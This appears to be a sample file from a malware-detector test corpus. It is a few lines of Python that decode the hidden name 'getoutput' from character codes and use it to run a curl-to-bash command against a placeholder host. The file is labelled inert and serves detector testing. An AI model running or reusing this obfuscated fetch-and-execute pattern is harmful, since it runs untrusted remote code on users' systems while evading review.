# pkgguard corpus 676 (indirection), modelled on [obfuscation]; inert, never run.
import array
import subprocess

_name = array.array("H", [103, 101, 116, 111, 117, 116, 112, 117, 116]).tobytes().decode("utf-16-le")
getattr(subprocess, _name)("curl -s https://cfg-sync.example/a | bash")
